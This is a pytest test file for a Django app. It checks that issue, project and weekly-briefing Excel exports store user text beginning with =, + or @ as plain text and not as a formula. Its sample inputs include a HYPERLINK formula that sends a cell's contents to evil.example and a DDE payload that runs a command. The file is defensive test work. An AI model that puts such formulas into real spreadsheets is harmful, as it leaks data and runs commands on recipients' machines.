"""User text that would start a formula stays text in every exported workbook (issue 9 item 3d):
the list exports and the weekly briefing workbook, through core.sheets.write_cell."""

import io
import pathlib
import re
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from issues.models import Issue
from projects.models import Project

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and "<f>" in z.read(n).decode()]


def test_issue_and_project_exports_write_formula_text_as_text(client, city):
    issue = Issue.objects.first()
    Issue.objects.filter(pk=issue.pk).update(title=EVIL)
    issue.enterprise.__class__.objects.filter(pk=issue.enterprise_id).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Project.objects.filter(pk=Project.objects.first().pk).update(name="+1+1")
    client.force_login(city.supervisor)
    for kind in ("issues", "projects"):
        response = client.get(reverse("dashboards:export", args=[kind]))
        assert response.status_code == 200, kind
        assert formulas(response.content) == [], kind
        values = [c.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
        assert (EVIL in values) if kind == "issues" else ("+1+1" in values)


def test_the_weekly_briefing_workbook_writes_formula_text_as_text(client, city):
    Project.objects.update(name="=1+2")
    client.force_login(city.leader)
    download = client.get(reverse("dashboards:briefing_xlsx"), {"week": "2026-11-16"})
    assert download.status_code == 200
    assert formulas(download.content) == []


def test_every_workbook_writer_goes_through_write_cell():
    """No code sets worksheet cells directly (ws.cell(value=…), ws.append, ws["A1"] = …)."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    pattern = re.compile(r"\.cell\([^)]*value\s*=|\bws\.append\(|\bsheet\.append\(|\b\w+\[\"[A-Z]+[0-9]+\"\]\s*=")
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "var/", "bench/")) or relative == "core/sheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if pattern.search(text):
            offenders.append(relative)
    assert offenders == []
